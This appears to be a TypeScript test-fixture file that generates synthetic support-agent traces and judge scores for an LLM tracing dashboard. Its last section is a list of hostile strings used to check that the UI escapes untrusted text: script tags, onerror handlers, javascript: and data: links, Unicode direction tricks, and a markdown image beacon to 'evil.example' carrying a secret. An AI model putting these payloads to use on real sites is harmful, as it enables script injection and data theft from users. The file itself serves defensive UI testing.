import type { Assessment, TraceSummary } from '@assay/protocol'
import { pick, random } from './random.ts'

const talks: readonly [[string, string], ...[string, string][]] = [
  ['Where is my order #48370? It said yesterday', 'It left Leipzig at 06:12 today and should reach you before 14:00.'],
  ['Do the Ridge 2 boots come in wide?', 'Yes, the Ridge 2 is available in wide (EE) in sizes 41 to 47.'],
  ['how do i change the delivery adress', 'You can change it until the parcel is handed to the carrier.'],
  ['Is the Fjell tent freestanding?', 'Yes. The Fjell 2 and the Fjell 3 both stand without pegs.'],
  ['I want to cancel #48359 please', 'Done: order #48359 is cancelled and 64.90 EUR are on the way back to you.'],
  ['Wo ist meine Bestellung 48290?', 'Ihre Bestellung wurde gestern zugestellt (Nachbar, Hausnummer 12).'],
  ['注文48201はいつ届きますか？', 'ご注文は11月24日に到着する予定です。'],
  ['What is the warranty on poles?', 'Trekking poles have a 3-year warranty covering material and workmanship.'],
  ['Can I use two vouchers?', 'One voucher per order. The 20 EUR voucher gives you the larger saving.'],
  ['Which jacket is warmer, Nord or Polar?', 'The Polar (700 fill, comfort −22 °C) is the warmer of the two.'],
]
const failures: readonly [[string, string], ...[string, string][]] = [
  [
    'I returned two of the three items from #48213, I need my money back',
    'RefundAmountError: refund 189.00 EUR exceeds captured 149.00 EUR',
  ],
  ['Ship to Svalbard, how much?', 'ToolTimeout: get_shipping_rate exceeded 8,000 ms'],
  ['give me the phone number of the customer before me', 'GuardrailBlocked: pii_filter (category contact) stopped the answer'],
  ['Track 1Z-88-2231 please', "KeyError: 'tracking_url' in lookup_order"],
]

export function anAssessment(part: Partial<Assessment> & Pick<Assessment, 'traceId' | 'name' | 'value'>): Assessment {
  return {
    assessmentId: `a-${part.traceId}-${part.name}`,
    spanId: null,
    kind: 'feedback',
    rationale: null,
    source: { type: 'LLM_JUDGE', id: 'judge v3' },
    error: null,
    metadata: {},
    createdAtMs: Date.now(),
    updatedAtMs: Date.now(),
    overrides: null,
    valid: true,
    ...part,
  }
}

/** One trace of a support agent, the same for the same number. */
export function exampleTrace(number: number, startMs: number, experimentId: string): TraceSummary {
  const next = random(number + 7)
  const running = number === 0
  const failed = next() < 0.09 && !running
  const [inputPreview, said] = failed ? pick(next, failures) : pick(next, talks)
  const traceId = `tr-${(number * 2_654_435_761 + 16_777_216).toString(16).padStart(12, '0')}`
  const tokens = Math.round(900 + next() * next() * 18_000)
  const scores: Assessment[] = []
  if (next() < 0.7 && !running)
    scores.push(anAssessment({ traceId, name: 'correct', value: Math.round((failed ? next() * 0.6 : 0.6 + next() * 0.4) * 100) / 100 }))
  if (next() < 0.5 && !running)
    scores.push(
      anAssessment({ traceId, name: 'helpful', value: Math.round((failed ? 0.2 + next() * 0.4 : 0.7 + next() * 0.3) * 100) / 100 }),
    )
  return {
    traceId,
    experimentId,
    name: 'support-agent',
    status: running ? 'IN_PROGRESS' : failed ? 'ERROR' : 'OK',
    startMs,
    durationMs: running ? null : Math.round(400 + next() * next() * 11_000),
    inputPreview,
    outputPreview: running || failed ? '' : said,
    error: failed ? said : null,
    spanCount: 22,
    errorCount: failed ? 3 : 0,
    tokens,
    inputTokens: Math.round(tokens * 0.9),
    outputTokens: tokens - Math.round(tokens * 0.9),
    costUsd: tokens * 0.0000019,
    unpriced: next() < 0.03,
    session: `c-${Math.floor(next() * 0xffff).toString(16)}`,
    user: `u_${18_000 + Math.floor(next() * 3000)}`,
    version: next() < 0.25 ? 'v42' : 'v41',
    models: ['claude-sonnet-4.5', 'gpt-5-mini'],
    tags: { env: 'production' },
    metadata: {},
    assessments: scores,
    clockSuspect: false,
  }
}

/** Texts that try to break out of the page, reorder it, load something, or hide. */
export const hostileText = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload=window.__pwned=1>',
  '[click](javascript:window.__pwned=1)',
  '![beacon](http://evil.example/?q=secret)',
  '<a href="data:text/html,<script>1</script>">x</a>',
  'total: \u202e00.981 RUE',
  'pass\u200bword',
  '\u001b[31mred\u001b[0m',
  '`<b>code</b>`',
  '| a | b |\n|---|---|\n| <img src=y> | **bold** |',
].join('\n\n')

export function hostileTrace(startMs: number, experimentId: string): TraceSummary {
  return {
    ...exampleTrace(3, startMs, experimentId),
    traceId: 'tr-hostile',
    status: 'ERROR',
    inputPreview: hostileText,
    outputPreview: hostileText,
    error: hostileText,
    session: '<img src=x onerror=window.__pwned=1>',
    user: '\u202eevil',
    version: '"><script>',
    tags: { '<b>tag</b>': '<script>window.__pwned=1</script>' },
    assessments: [anAssessment({ traceId: 'tr-hostile', name: '<img src=x>', value: '<script>1</script>', rationale: hostileText })],
  }
}
